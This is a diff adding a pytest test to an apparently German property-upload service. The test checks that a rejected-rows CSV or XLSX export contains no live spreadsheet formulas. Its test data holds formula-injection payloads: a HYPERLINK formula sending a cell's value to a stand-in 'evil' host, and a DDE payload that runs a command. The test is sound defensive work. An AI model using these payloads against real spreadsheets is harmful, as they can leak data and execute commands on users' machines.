@@ -144,3 +144,48 @@ def test_csv_rechtswert_with_zone_and_hectares(tmp_path, essen, organisation, pa
     assert row.action == "create", row.messages
     assert row.values["title"] == "Am Westhafen"
     assert row.values["gross_area_m2"] == 34_000
+
+
+FORMULAS = ['=HYPERLINK("http://evil/?x="&A1;"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_rejected_rows_file_has_no_live_formulas(tmp_path, organisation, partner, suffix):
+    from properties.services.upload.rejected import upload_rejected_rows_file
+
+    rows = [["=ID1", FORMULAS[0], FORMULAS[1], FORMULAS[2], "7,2", "51,5"]]
+    headers = ["Nr", "Bezeichnung", "Gebietsart", "Eigentum", "lon", "lat"]
+    path = tmp_path / f"liste{suffix}"
+    if suffix == ".csv":
+        path.write_text(
+            "\n".join(";".join(f'"{c}"' if ";" in c else c for c in r) for r in [headers, *rows]),
+            encoding="utf-8",
+        )
+    else:
+        workbook = openpyxl.Workbook()
+        for r in [headers, *rows]:
+            workbook.active.append(r)
+        workbook.save(path)
+    report = sites_upload_plan(path=path, organisation=organisation, acting_user=partner)
+    assert report.rows[0].action == "reject"
+
+    content, _type, _name = upload_rejected_rows_file(path=path, report=report, filename=path.name)
+
+    if suffix == ".csv":
+        import csv
+        import io
+
+        cells = [
+            c
+            for r in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
+            for c in r
+        ]
+        values = cells
+    else:
+        import io
+
+        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+        values = [c.value for r in sheet.iter_rows() for c in r if c.value is not None]
+        assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
+    assert not [v for v in values if isinstance(v, str) and v.startswith(("=", "+", "@"))]
+    assert "'" + FORMULAS[1] in values
